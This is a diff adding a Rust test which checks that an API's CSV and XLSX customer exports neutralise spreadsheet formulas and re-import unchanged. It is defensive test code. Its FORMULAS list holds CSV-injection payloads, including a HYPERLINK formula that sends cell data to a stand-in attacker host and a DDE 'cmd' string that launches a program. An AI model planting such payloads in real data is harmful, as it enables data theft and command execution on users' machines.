@@ -786,3 +786,151 @@ fn crafted_csv_files_are_refused_quickly_and_reports_stay_small() {
     });
 }
 
+/// What a spreadsheet would run as a formula (OWASP "CSV injection"): `=`, `+`, `-`, `@`, and a
+/// leading tab or carriage return before one.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
+    "+SUM(1,2)",
+    "@SUM(1+1)*cmd",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+/// Issue 7 item 3 (CUS-13, X-6): customers whose free-text fields (name, street, occupation,
+/// tags, notes) hold formulas. The CSV export starts each such cell with `'` so that a
+/// spreadsheet shows it as text; the XLSX export writes strings, never formulas; both files
+/// import back to the values stored (an import trims cells, as it always has).
+#[test]
+fn exports_neutralise_formulas_and_reimport_unchanged() {
+    each_backend(|srv| {
+        let sup = supervisor(srv);
+        for (i, f) in FORMULAS.iter().enumerate() {
+            let tag = format!("{}1+{i}", ['=', '+', '-', '@'][i % 4]);
+            let occupation: String = f.chars().take(50).collect();
+            srv.post(
+                "/api/v1/customers",
+                &sup,
+                json!({"kind": "individual", "name": f, "notes": f, "occupation": occupation,
+                    "address": {"street": f}, "tags": [tag],
+                    "external_ids": [{"system": "his", "external_id": format!("F{i}")}]}),
+            )
+            .ok(201);
+        }
+        let stored: Vec<Value> = (0..FORMULAS.len())
+            .map(|i| by_external(srv, &sup, &format!("F{i}")))
+            .collect();
+        let text = |v: &Value| match v {
+            Value::Array(items) => items
+                .iter()
+                .map(|t| t.as_str().unwrap())
+                .collect::<Vec<_>>()
+                .join(";"),
+            other => other.as_str().unwrap_or_default().to_string(),
+        };
+        let fields = |c: &Value| {
+            [
+                ("name", text(&c["name"])),
+                ("street", text(&c["address"]["street"])),
+                ("occupation", text(&c["occupation"])),
+                ("tags", text(&c["tags"])),
+                ("notes", text(&c["notes"])),
+            ]
+        };
+
+        // CSV: every cell that starts like a formula is quoted with '.
+        let res = export(srv, &sup, "?unmasked=true");
+        assert_eq!(res.status, 200);
+        let body = res.body.strip_prefix(b"\xEF\xBB\xBF").unwrap().to_vec();
+        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(body.as_slice())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        assert_eq!(rows.len(), 1 + FORMULAS.len());
+        let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+        let external = col("外部编号");
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "unquoted formula {cell:?} in {row:?}"
+                );
+            }
+        }
+        for (i, c) in stored.iter().enumerate() {
+            let row = rows
+                .iter()
+                .find(|r| r[external] == format!("F{i}"))
+                .unwrap();
+            for (field, value) in fields(c) {
+                let header = match field {
+                    "name" => "姓名",
+                    "street" => "地址",
+                    "occupation" => "职业",
+                    "tags" => "标签",
+                    _ => "备注",
+                };
+                assert_eq!(row[col(header)], format!("'{value}"), "{field} of F{i}");
+            }
+        }
+        // It imports back to the values stored, not with a ' in front.
+        let r = import(srv, &sup, "?mode=valid_rows", CSV, res.body).report();
+        assert_eq!(problems(&r), vec![]);
+        assert_eq!(counts(&r), (6, 0, 6, 0));
+        for (i, before) in stored.iter().enumerate() {
+            let after = by_external(srv, &sup, &format!("F{i}"));
+            for ((field, b), (_, a)) in fields(before).into_iter().zip(fields(&after)) {
+                assert_eq!(a, b.trim(), "{field} of F{i} after the CSV round trip");
+            }
+        }
+
+        // XLSX: the same cells are strings, unquoted, and no cell is a formula.
+        use calamine::Reader;
+        let res = export(srv, &sup, "?format=xlsx&unmasked=true");
+        let mut book = calamine::Xlsx::new(std::io::Cursor::new(res.body.clone())).unwrap();
+        let formulas = book.worksheet_formula("客户").unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{formulas:?}"
+        );
+        let range = book.worksheet_range("客户").unwrap();
+        let sheet: Vec<Vec<calamine::Data>> = range.rows().map(<[_]>::to_vec).collect();
+        let header: Vec<String> = sheet[0].iter().map(|d| d.to_string()).collect();
+        let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let after: Vec<Value> = (0..FORMULAS.len())
+            .map(|i| by_external(srv, &sup, &format!("F{i}")))
+            .collect();
+        for (i, c) in after.iter().enumerate() {
+            let row = sheet
+                .iter()
+                .find(|r| r[at("外部编号")] == calamine::Data::String(format!("F{i}")))
+                .unwrap();
+            for (field, value) in fields(c) {
+                let header = match field {
+                    "name" => "姓名",
+                    "street" => "地址",
+                    "occupation" => "职业",
+                    "tags" => "标签",
+                    _ => "备注",
+                };
+                assert_eq!(
+                    row[at(header)],
+                    calamine::Data::String(value.clone()),
+                    "{field} of F{i}"
+                );
+            }
+        }
+        let r = import(srv, &sup, "?mode=valid_rows", XLSX, res.body).report();
+        assert_eq!(counts(&r), (6, 0, 6, 0));
+        for (i, before) in after.iter().enumerate() {
+            let again = by_external(srv, &sup, &format!("F{i}"));
+            assert_eq!(
+                fields(before),
+                fields(&again),
+                "F{i} after the XLSX round trip"
+            );
+        }
+    });
+}
